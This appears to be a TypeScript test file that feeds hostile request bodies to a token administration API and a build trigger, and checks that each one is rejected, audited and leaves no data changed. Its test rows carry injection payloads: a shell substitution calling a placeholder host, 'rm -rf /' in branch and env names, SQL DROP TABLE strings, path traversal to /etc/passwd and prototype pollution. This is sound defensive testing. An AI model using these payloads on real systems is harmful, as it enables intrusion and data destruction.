// Hostile input, part 3: request bodies and content types on the token administration (SPEC §6) and the trigger
// (SPEC §5): malformed, truncated and non-object JSON, prototype pollution, deep nesting, wrong and missing content
// types, bodies over 1 MiB, out-of-range and injected fields, NUL and unpaired surrogates, other users' tokens.
// Each row: exact status and code, its audit row (token-admin changes and every trigger are audited; token-admin
// reads and anonymous requests are not), and no change to any token, build or job.
import t from 'tap'
import { buildApp } from '../helpers/app.js'
import { API, bearer, createToken, revokeToken } from '../helpers/chain.js'
import { LogCapture, report } from '../helpers/faults.js'
import { runTable, snapshot, type Case } from '../helpers/hostile.js'
import { scanDatabase, scanText } from '../helpers/secrets.js'
import { FIXTURE, seedFixture } from '../../db/seed.js'
import { encodeCursor } from '../../lib/cursor.js'

const logs = new LogCapture()
const big = { default: 1_000_000, log: 1_000_000, artifact: 1_000_000, trigger: 1_000_000 }
const { app, database, session } = await buildApp(t, { env: { LOG_LEVEL: 'info' }, limits: big, seed: async ({ db }) => { await seedFixture(db) }, logStream: logs })
const db = database.db
const { users: U, projects: P } = FIXTURE
const jwt = await session(U.demo)
const outsiderJwt = await session(U.outsider)
const own = await createToken(app, jwt, { name: 'the target of PATCH rows' })
const trig = await createToken(app, jwt, { name: 'trigger', allow_trigger: true })
const noTrig = await createToken(app, jwt, { name: 'no trigger right' })
const gone = await createToken(app, jwt, { name: 'revoked' })
await revokeToken(app, jwt, gone.token_id)
const others = await createToken(app, outsiderJwt, { name: 'the outsider\'s' })

const S = bearer(jwt)
const JSON_CT = { 'content-type': 'application/json' }
const MIB = 1024 * 1024
const READS = 'token administration reads are not audited (config audit: false); only changes are'

// ---- POST /tokens
const create = (name: string, payload: string | object | undefined, status: number, code: string, extra: Partial<Case> = {}): Case => ({
  name: `create: ${name}`,
  method: 'POST',
  url: `${API}/tokens`,
  headers: typeof payload === 'string' ? { ...S, ...JSON_CT } : S,
  ...(payload !== undefined ? { payload } : {}),
  status,
  code,
  audit: 'create_mcp_token',
  tokenId: null,
  ...extra
})
const later = new Date(Date.now() + 400 * 86_400_000).toISOString()
const past = new Date(Date.now() - 86_400_000).toISOString()
const manyProjects = Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`00000000-0000-4000-8000-${i.toString(16).padStart(12, '0')}`, null]))
const createCases: Case[] = [
  create('malformed JSON', '{bad', 400, 'FST_ERR_CTP_INVALID_JSON_BODY'),
  create('truncated JSON', '{"name":', 400, 'FST_ERR_CTP_INVALID_JSON_BODY'),
  create('trailing garbage', '{"name":"x"}garbage', 400, 'FST_ERR_CTP_INVALID_JSON_BODY'),
  create('single quotes', "{'name':'x'}", 400, 'FST_ERR_CTP_INVALID_JSON_BODY'),
  create('an array', '[]', 400, 'FST_ERR_VALIDATION'),
  create('null', 'null', 400, 'FST_ERR_VALIDATION'),
  create('a string', '"x"', 400, 'FST_ERR_VALIDATION'),
  create('a number', '123', 400, 'FST_ERR_VALIDATION'),
  create('empty body with a JSON content type', '', 400, 'FST_ERR_CTP_EMPTY_JSON_BODY'),
  create('no body, no content type', undefined, 400, 'FST_ERR_VALIDATION'),
  create('__proto__ pollution', '{"name":"x","__proto__":{"allow_trigger":true}}', 400, 'FST_ERR_CTP_INVALID_JSON_BODY'),
  create('constructor.prototype pollution', '{"name":"x","constructor":{"prototype":{"isAdmin":true}}}', 400, 'FST_ERR_CTP_INVALID_JSON_BODY'),
  create('nested 100 000 deep', '['.repeat(100_000) + ']'.repeat(100_000), 400, 'FST_ERR_VALIDATION'),
  create('over 1 MiB', JSON.stringify({ name: 'x', pad: 'p'.repeat(MIB) }), 413, 'FST_ERR_CTP_BODY_TOO_LARGE'),
  create('text/plain', undefined, 400, 'FST_ERR_VALIDATION', { headers: { ...S, 'content-type': 'text/plain' }, payload: 'name=x' }),
  create('form-urlencoded', undefined, 415, 'FST_ERR_CTP_INVALID_MEDIA_TYPE', { headers: { ...S, 'content-type': 'application/x-www-form-urlencoded' }, payload: 'name=x' }),
  create('multipart', undefined, 415, 'FST_ERR_CTP_INVALID_MEDIA_TYPE', { headers: { ...S, 'content-type': 'multipart/form-data; boundary=x' }, payload: '--x\r\nContent-Disposition: form-data; name="name"\r\n\r\nx\r\n--x--' }),
  create('application/xml', undefined, 415, 'FST_ERR_CTP_INVALID_MEDIA_TYPE', { headers: { ...S, 'content-type': 'application/xml' }, payload: '<name>x</name>' }),
  create('a made-up JSON-looking type', undefined, 415, 'FST_ERR_CTP_INVALID_MEDIA_TYPE', { headers: { ...S, 'content-type': 'application/jsonx' }, payload: '{"name":"x"}' }),
  create('no name', {}, 400, 'FST_ERR_VALIDATION'),
  create('name empty', { name: '' }, 400, 'MCP_BAD_REQUEST'),
  create('name only spaces', { name: '    ' }, 400, 'MCP_BAD_REQUEST'),
  create('name of 129 characters', { name: 'n'.repeat(129) }, 400, 'MCP_BAD_REQUEST'),
  create('name of 513 characters', { name: 'n'.repeat(513) }, 400, 'FST_ERR_VALIDATION'),
  create('name with a NUL', { name: 'a\u0000b' }, 400, 'MCP_BAD_REQUEST'),
  create('name as an object', { name: { $ne: null } }, 400, 'FST_ERR_VALIDATION'),
  create('expires_days 0', { name: 'x', expires_days: 0 }, 400, 'MCP_BAD_REQUEST'),
  create('expires_days -1', { name: 'x', expires_days: -1 }, 400, 'MCP_BAD_REQUEST'),
  create('expires_days 366', { name: 'x', expires_days: 366 }, 400, 'MCP_BAD_REQUEST'),
  create('expires_days 1e30', { name: 'x', expires_days: 1e30 }, 400, 'MCP_BAD_REQUEST'),
  create('expires_days 1.5', { name: 'x', expires_days: 1.5 }, 400, 'FST_ERR_VALIDATION'),
  create('expires_days as text', { name: 'x', expires_days: 'forever' }, 400, 'FST_ERR_VALIDATION'),
  create('allow_trigger as "yes"', { name: 'x', allow_trigger: 'yes' }, 400, 'FST_ERR_VALIDATION'),
  create('allow_trigger as an object', { name: 'x', allow_trigger: {} }, 400, 'FST_ERR_VALIDATION'),
  create('scope key that is not a UUID', { name: 'x', enabled_projects: { 'not-a-uuid': null } }, 400, 'FST_ERR_VALIDATION'),
  create('scope key with SQL', { name: 'x', enabled_projects: { "' OR 1=1 --": null } }, 400, 'FST_ERR_VALIDATION'),
  create('scope as an array', { name: 'x', enabled_projects: [P.github] }, 400, 'FST_ERR_VALIDATION'),
  create('scope of 1001 projects', { name: 'x', enabled_projects: manyProjects }, 400, 'FST_ERR_VALIDATION'),
  create('scope on a project the user does not collaborate on', { name: 'x', enabled_projects: { [P.public]: null } }, 403, 'MCP_PROJECT_FORBIDDEN'),
  create('scope on a project that does not exist', { name: 'x', enabled_projects: { '00000000-0000-4000-8000-00000000beef': null } }, 403, 'MCP_PROJECT_FORBIDDEN'),
  create('scope expiry in the past', { name: 'x', enabled_projects: { [P.github]: past } }, 400, 'MCP_BAD_REQUEST'),
  create('scope expiry after the token\'s', { name: 'x', expires_days: 30, enabled_projects: { [P.github]: later } }, 400, 'MCP_BAD_REQUEST'),
  create('scope expiry "tomorrow"', { name: 'x', enabled_projects: { [P.github]: 'tomorrow' } }, 400, 'MCP_BAD_REQUEST'),
  create('scope expiry with SQL', { name: 'x', enabled_projects: { [P.github]: "2030-01-01'; DROP TABLE mcp_token; --" } }, 400, 'MCP_BAD_REQUEST'),
  create('scope expiry with a NUL', { name: 'x', enabled_projects: { [P.github]: '2030-01-01T00:00:00\u0000Z' } }, 400, 'MCP_BAD_REQUEST'),
  create('scope expiry of 65 characters', { name: 'x', enabled_projects: { [P.github]: '2'.repeat(65) } }, 400, 'FST_ERR_VALIDATION'),
  create('scope expiry as a number', { name: 'x', enabled_projects: { [P.github]: 1893456000 } }, 400, 'MCP_BAD_REQUEST')
]

// ---- PATCH / DELETE / trigger / access-log on tokens
const admin = (name: string, method: string, tokenId: string, payload: string | object | undefined, status: number, code: string, audit: string | null, extra: Partial<Case> = {}): Case => ({
  name,
  method,
  url: `${API}/tokens/${tokenId}`,
  headers: typeof payload === 'string' ? { ...S, ...JSON_CT } : S,
  ...(payload !== undefined ? { payload } : {}),
  status,
  code,
  audit,
  tokenId: /^[0-9a-f]{16}$/.test(tokenId) ? tokenId : null,
  ...(audit === null ? { why: READS } : {}),
  ...extra
})
const unknownId = '0123456789abcdef'
const tokenCases: Case[] = [
  admin('patch: nothing to update', 'PATCH', own.token_id, {}, 400, 'MCP_BAD_REQUEST', 'update_mcp_token'),
  admin('patch: malformed JSON', 'PATCH', own.token_id, '{bad', 400, 'FST_ERR_CTP_INVALID_JSON_BODY', 'update_mcp_token'),
  admin('patch: an array', 'PATCH', own.token_id, '[]', 400, 'FST_ERR_VALIDATION', 'update_mcp_token'),
  admin('patch: __proto__', 'PATCH', own.token_id, '{"__proto__":{"allow_trigger":true}}', 400, 'FST_ERR_CTP_INVALID_JSON_BODY', 'update_mcp_token'),
  admin('patch: over 1 MiB', 'PATCH', own.token_id, JSON.stringify({ name: 'p'.repeat(MIB) }), 413, 'FST_ERR_CTP_BODY_TOO_LARGE', 'update_mcp_token'),
  admin('patch: form-urlencoded', 'PATCH', own.token_id, undefined, 415, 'FST_ERR_CTP_INVALID_MEDIA_TYPE', 'update_mcp_token', { headers: { ...S, 'content-type': 'application/x-www-form-urlencoded' }, payload: 'allow_trigger=true' }),
  admin('patch: name with a NUL', 'PATCH', own.token_id, { name: 'z\u0000' }, 400, 'MCP_BAD_REQUEST', 'update_mcp_token'),
  admin('patch: name only spaces', 'PATCH', own.token_id, { name: '   ' }, 400, 'MCP_BAD_REQUEST', 'update_mcp_token'),
  admin('patch: expires_days 0', 'PATCH', own.token_id, { expires_days: 0 }, 400, 'MCP_BAD_REQUEST', 'update_mcp_token'),
  admin('patch: expires_days 100000', 'PATCH', own.token_id, { expires_days: 100_000 }, 400, 'MCP_BAD_REQUEST', 'update_mcp_token'),
  admin('patch: widen to a foreign project', 'PATCH', own.token_id, { enabled_projects: { [P.public]: null } }, 403, 'MCP_PROJECT_FORBIDDEN', 'update_mcp_token'),
  admin('patch: scope key not a UUID', 'PATCH', own.token_id, { enabled_projects: { '../../': null } }, 400, 'FST_ERR_VALIDATION', 'update_mcp_token'),
  admin('patch: allow_trigger as text', 'PATCH', own.token_id, { allow_trigger: 'please' }, 400, 'FST_ERR_VALIDATION', 'update_mcp_token'),
  admin('patch: another user\'s token', 'PATCH', others.token_id, { allow_trigger: true }, 404, 'MCP_NOT_FOUND', 'update_mcp_token'),
  admin('patch: a revoked token (no resurrection)', 'PATCH', gone.token_id, { name: 'back' }, 404, 'MCP_NOT_FOUND', 'update_mcp_token'),
  admin('patch: an unknown token', 'PATCH', unknownId, { name: 'x' }, 404, 'MCP_NOT_FOUND', 'update_mcp_token'),
  admin('patch: id not hex', 'PATCH', 'zzzzzzzzzzzzzzzz', { name: 'x' }, 400, 'FST_ERR_VALIDATION', 'update_mcp_token'),
  admin('patch: id of 17 characters', 'PATCH', `${own.token_id}0`, { name: 'x' }, 400, 'FST_ERR_VALIDATION', 'update_mcp_token'),
  admin('patch: upper-case id', 'PATCH', own.token_id.toUpperCase(), { name: 'x' }, 400, 'FST_ERR_VALIDATION', 'update_mcp_token'),
  admin('patch: id with SQL', 'PATCH', encodeURIComponent("x' OR '1'='1"), { name: 'x' }, 400, 'FST_ERR_VALIDATION', 'update_mcp_token'),
  admin('patch: a whole token as the id', 'PATCH', own.token_id + 'x'.repeat(10), { name: 'x' }, 400, 'FST_ERR_VALIDATION', 'update_mcp_token'),
  admin('revoke: another user\'s token', 'DELETE', others.token_id, undefined, 404, 'MCP_NOT_FOUND', 'revoke_mcp_token'),
  admin('revoke: already revoked', 'DELETE', gone.token_id, undefined, 404, 'MCP_NOT_FOUND', 'revoke_mcp_token'),
  admin('revoke: unknown', 'DELETE', unknownId, undefined, 404, 'MCP_NOT_FOUND', 'revoke_mcp_token'),
  admin('revoke: id with SQL', 'DELETE', encodeURIComponent("' OR 1=1 --"), undefined, 400, 'FST_ERR_VALIDATION', 'revoke_mcp_token'),
  admin('revoke: wildcard id', 'DELETE', '%25', undefined, 400, 'FST_ERR_VALIDATION', 'revoke_mcp_token'),
  admin('grant trigger: another user\'s token', 'POST', `${others.token_id}/trigger`, '{}', 404, 'MCP_NOT_FOUND', 'grant_mcp_trigger', { tokenId: others.token_id }),
  admin('grant trigger: a revoked token', 'POST', `${gone.token_id}/trigger`, '{}', 404, 'MCP_NOT_FOUND', 'grant_mcp_trigger', { tokenId: gone.token_id }),
  admin('grant trigger: malformed JSON', 'POST', `${own.token_id}/trigger`, '{bad', 400, 'FST_ERR_CTP_INVALID_JSON_BODY', 'grant_mcp_trigger', { tokenId: own.token_id }),
  admin('grant trigger: over 1 MiB', 'POST', `${own.token_id}/trigger`, JSON.stringify({ pad: 'p'.repeat(MIB) }), 413, 'FST_ERR_CTP_BODY_TOO_LARGE', 'grant_mcp_trigger', { tokenId: own.token_id }),
  admin('withdraw trigger: another user\'s token', 'DELETE', `${others.token_id}/trigger`, undefined, 404, 'MCP_NOT_FOUND', 'revoke_mcp_trigger', { tokenId: others.token_id }),
  admin('withdraw trigger: id not hex', 'DELETE', 'nothexnothexnoth/trigger', undefined, 400, 'FST_ERR_VALIDATION', 'revoke_mcp_trigger', { tokenId: null }),
  admin('access log: another user\'s token', 'GET', `${others.token_id}/access-log`, undefined, 404, 'MCP_NOT_FOUND', null),
  admin('access log: limit 0', 'GET', `${own.token_id}/access-log?limit=0`, undefined, 400, 'FST_ERR_VALIDATION', null),
  admin('access log: limit 1000', 'GET', `${own.token_id}/access-log?limit=1000`, undefined, 400, 'FST_ERR_VALIDATION', null),
  admin('access log: forged cursor', 'GET', `${own.token_id}/access-log?cursor=${encodeCursor('builds', ['x', 'y'])}`, undefined, 400, 'MCP_BAD_REQUEST', null),
  admin('access log: id with SQL', 'GET', `${encodeURIComponent("' OR 1=1 --")}/access-log`, undefined, 400, 'FST_ERR_VALIDATION', null),
  { name: 'list: include outside its enumeration', url: `${API}/tokens?include=all`, headers: S, status: 400, code: 'FST_ERR_VALIDATION', audit: null, why: READS },
  { name: 'list: duplicate include keys', url: `${API}/tokens?include=revoked&include=revoked`, headers: S, status: 400, code: 'FST_ERR_VALIDATION', audit: null, why: READS },
  { name: 'outsider revoking the demo user\'s token', method: 'DELETE', url: `${API}/tokens/${own.token_id}`, headers: bearer(outsiderJwt), status: 404, code: 'MCP_NOT_FOUND', audit: 'revoke_mcp_token', tokenId: own.token_id },
  { name: 'outsider widening the demo user\'s token', method: 'PATCH', url: `${API}/tokens/${own.token_id}`, headers: bearer(outsiderJwt), payload: { enabled_projects: {} }, status: 404, code: 'MCP_NOT_FOUND', audit: 'update_mcp_token', tokenId: own.token_id }
]

// ---- POST /projects/:id/trigger (the chain)
const trigger = (name: string, payload: string | object | undefined, status: number, code: string, extra: Partial<Case> = {}): Case => ({
  name: `trigger: ${name}`,
  method: 'POST',
  url: `${API}/projects/${P.github}/trigger`,
  headers: typeof payload === 'string' ? { ...bearer(trig.token), ...JSON_CT } : bearer(trig.token),
  ...(payload !== undefined ? { payload } : {}),
  status,
  code,
  audit: 'trigger_build',
  tokenId: trig.token_id,
  ...extra
})
const env65 = Object.fromEntries(Array.from({ length: 65 }, (_, i) => [`V${i}`, 'x']))
const triggerCases: Case[] = [
  trigger('malformed JSON', '{"branch":', 400, 'FST_ERR_CTP_INVALID_JSON_BODY'),
  trigger('an array', '["main"]', 400, 'FST_ERR_VALIDATION'),
  trigger('null', 'null', 400, 'FST_ERR_VALIDATION'),
  trigger('empty body with a JSON content type', '', 400, 'FST_ERR_CTP_EMPTY_JSON_BODY'),
  trigger('__proto__ pollution', '{"branch":"main","__proto__":{"allow_trigger":true}}', 400, 'FST_ERR_CTP_INVALID_JSON_BODY'),
  trigger('over 1 MiB', JSON.stringify({ branch: 'main', env: { A: 'p'.repeat(MIB) } }), 413, 'FST_ERR_CTP_BODY_TOO_LARGE'),
  trigger('text/plain', undefined, 400, 'FST_ERR_VALIDATION', { headers: { ...bearer(trig.token), 'content-type': 'text/plain' }, payload: 'branch=main' }),
  trigger('multipart', undefined, 415, 'FST_ERR_CTP_INVALID_MEDIA_TYPE', { headers: { ...bearer(trig.token), 'content-type': 'multipart/form-data; boundary=x' }, payload: '--x--' }),
  trigger('branch with a NUL', { branch: 'ma\u0000in' }, 400, 'FST_ERR_VALIDATION'),
  trigger('branch with a newline', { branch: 'main\nrm -rf /' }, 400, 'FST_ERR_VALIDATION'),
  trigger('branch empty', { branch: '' }, 400, 'FST_ERR_VALIDATION'),
  trigger('branch of 256 characters', { branch: 'b'.repeat(256) }, 400, 'FST_ERR_VALIDATION'),
  trigger('branch with SQL', { branch: "main'; DROP TABLE build; --" }, 422, 'MCP_UNPROCESSABLE'),
  trigger('branch with a path traversal', { branch: '../../../etc/passwd' }, 422, 'MCP_UNPROCESSABLE'),
  trigger('branch with a shell substitution', { branch: '$(curl evil.example)' }, 422, 'MCP_UNPROCESSABLE'),
  trigger('sha not hex', { sha: 'xyzxyzx' }, 400, 'FST_ERR_VALIDATION'),
  trigger('sha with SQL', { sha: "abcdef0' OR '1'='1" }, 400, 'FST_ERR_VALIDATION'),
  trigger('sha of 65 hex', { sha: 'a'.repeat(65) }, 400, 'FST_ERR_VALIDATION'),
  trigger('sha of 6 hex', { sha: 'abcdef' }, 400, 'FST_ERR_VALIDATION'),
  trigger('a sha no commit has', { sha: 'deadbeefdeadbeef' }, 422, 'MCP_UNPROCESSABLE'),
  trigger('nothing to build from', {}, 422, 'MCP_UNPROCESSABLE'),
  trigger('env name with a space', { branch: 'main', env: { 'A B': 'x' } }, 400, 'FST_ERR_VALIDATION'),
  trigger('env name starting with a digit', { branch: 'main', env: { '1A': 'x' } }, 400, 'FST_ERR_VALIDATION'),
  trigger('env name with shell syntax', { branch: 'main', env: { 'A;rm -rf /': 'x' } }, 400, 'FST_ERR_VALIDATION'),
  trigger('65 env variables', { branch: 'main', env: env65 }, 400, 'FST_ERR_VALIDATION'),
  trigger('env value of 8193 characters', { branch: 'main', env: { A: 'v'.repeat(8193) } }, 400, 'FST_ERR_VALIDATION'),
  trigger('env value with a NUL', { branch: 'main', env: { A: 'x\u0000y' } }, 400, 'FST_ERR_VALIDATION'),
  trigger('env value with an unpaired surrogate', '{"branch":"main","env":{"A":"x\\ud800y"}}', 400, 'FST_ERR_VALIDATION'),
  trigger('env value with a lone low surrogate', '{"branch":"main","env":{"A":"\\udc00"}}', 400, 'FST_ERR_VALIDATION'),
  trigger('env as an array', { branch: 'main', env: ['A=1'] }, 400, 'FST_ERR_VALIDATION'),
  trigger('env value as an object', { branch: 'main', env: { A: { nested: true } } }, 400, 'FST_ERR_VALIDATION'),
  trigger('an upload project without an upload', {}, 409, 'MCP_CONFLICT', { url: `${API}/projects/${P.uploadEmpty}/trigger` }),
  trigger('a token without the trigger right', { branch: 'main' }, 403, 'MCP_TRIGGER_FORBIDDEN', { headers: bearer(noTrig.token), tokenId: noTrig.token_id }),
  trigger('a project the owner does not collaborate on', { branch: 'main' }, 403, 'MCP_PROJECT_FORBIDDEN', { url: `${API}/projects/${P.public}/trigger` }),
  trigger('a project that does not exist', { branch: 'main' }, 404, 'MCP_NOT_FOUND', { url: `${API}/projects/00000000-0000-4000-8000-00000000beef/trigger` }),
  trigger('GET instead of POST', undefined, 404, 'MCP_NOT_FOUND', { method: 'GET', audit: 'unknown_route' }),
  trigger('PUT instead of POST', { branch: 'main' }, 404, 'MCP_NOT_FOUND', { method: 'PUT', audit: 'unknown_route' })
]

const cases: Case[] = [...createCases, ...tokenCases, ...triggerCases]
const secrets = [own.token, trig.token, noTrig.token, gone.token, others.token, jwt, outsiderJwt]
const before = await snapshot(db)
let leaks: unknown[] = ['not run']

t.test(`${cases.length} hostile bodies on the token administration and the trigger`, async t => {
  const result = await runTable(t, cases, { app, db, idPrefix: 'h-body', secrets })
  leaks = result.leaks
  t.same(await snapshot(db), before, 'no token, build, job, project, collaborator, user or commit changed')
})

t.test('no plaintext token or session in any table, log line or error body', async t => {
  t.same(leaks, [], `none in ${cases.length} answers`)
  const scan = await scanDatabase(db, secrets)
  t.same(scan.leaks, [], `none in the ${scan.columns} text columns of ${scan.tables} tables`)
  t.same(scanText('logs', logs.text, secrets), [], `none in ${logs.raw.length} log lines`)
  report(t, 'hostile-bodies', { requests: cases.length, audited: cases.filter(c => c.audit !== null).length, not_audited: cases.filter(c => c.audit === null).length })
})
